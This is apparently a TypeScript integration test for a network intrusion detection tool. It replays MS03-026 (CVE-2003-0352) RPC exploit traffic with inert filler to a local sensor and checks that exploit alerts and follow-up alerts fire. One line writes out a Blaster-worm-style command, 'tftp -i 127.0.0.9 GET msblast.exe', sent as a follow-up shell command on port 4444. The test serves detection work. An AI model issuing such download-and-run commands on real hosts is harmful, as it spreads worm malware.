// The live node runs the same detectors as `vigil replay`: an MS03-026-shaped activation (inert
// filler) sent to the sensor under several delivery variants raises the exploit alert, a command
// typed on 4444 afterwards becomes a follow-up alert with its indicator, and the KB knows the CVE.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { pino } from 'pino';
import { loadConfig } from '../../src/cli/config.js';
import { startNode } from '../../src/cli/node.js';
import { activationCall, deliveryVariants } from '../helpers/delivery-variants.js';
import { api, freePort, tempDir, deliver, poll } from './up-helpers.js';

interface AlertLike {
  rule: string;
  cves: string[];
  src?: string;
  indicators: { type: string; value: string }[];
  evidence: Record<string, unknown>;
}

test('vigil up: live sensor traffic raises the MS03-026 alert and its follow-up; the KB serves the CVE', async () => {
  const dataDir = tempDir('node-detect');
  const httpPort = await freePort();
  const config = loadConfig({ env: {}, flags: { dataDir, http: { host: '127.0.0.1', port: httpPort }, sensor: { ports: [135, 4444] }, log: { level: 'silent' } } });
  const n = await startNode(config, { ephemeralPorts: true, sensorHosts: ['127.0.0.1'], logger: pino({ level: 'silent' }) });
  try {
    const variants = deliveryVariants(activationCall('RemoteActivation')).filter((v) => /fragment|big|alter/i.test(v.name));
    assert.ok(variants.length >= 3, `expected several variants, got ${variants.map((v) => v.name).join(', ')}`);
    for (const v of variants) await deliver(n.sensor.portFor(135)!, v.chunks);
    const exploit = await poll(async () => {
      const r = await api<{ items: AlertLike[] }>(n.httpAddress, n.token, '/api/v1/alerts?cve=CVE-2003-0352');
      return r.body.items.find((a) => a.rule === 'ms03_026_unc_server');
    }, 'the MS03-026 alert');
    assert.equal(exploit.src, '127.0.0.1');
    assert.ok(exploit.cves.includes('CVE-2003-0352'));

    await deliver(n.sensor.portFor(4444)!, [Buffer.from('tftp -i 127.0.0.9 GET msblast.exe\r\n')]);
    const followup = await poll(async () => {
      const r = await api<{ items: AlertLike[] }>(n.httpAddress, n.token, '/api/v1/alerts?rule=exploit_followup_command');
      return r.body.items[0];
    }, 'the follow-up command alert');
    assert.ok(followup.indicators.some((i) => /msblast\.exe/.test(i.value)), JSON.stringify(followup.indicators));

    const vuln = await api<{ id: string; aliases: string[] }>(n.httpAddress, n.token, '/api/v1/vulns/MS03-026');
    assert.equal(vuln.status, 200, vuln.text);
    assert.equal(vuln.body.id, 'CVE-2003-0352');
    const metrics = await api(n.httpAddress, n.token, '/metrics');
    assert.match(metrics.text, /vigil_alerts/);
  } finally {
    await n.stop();
  }
});
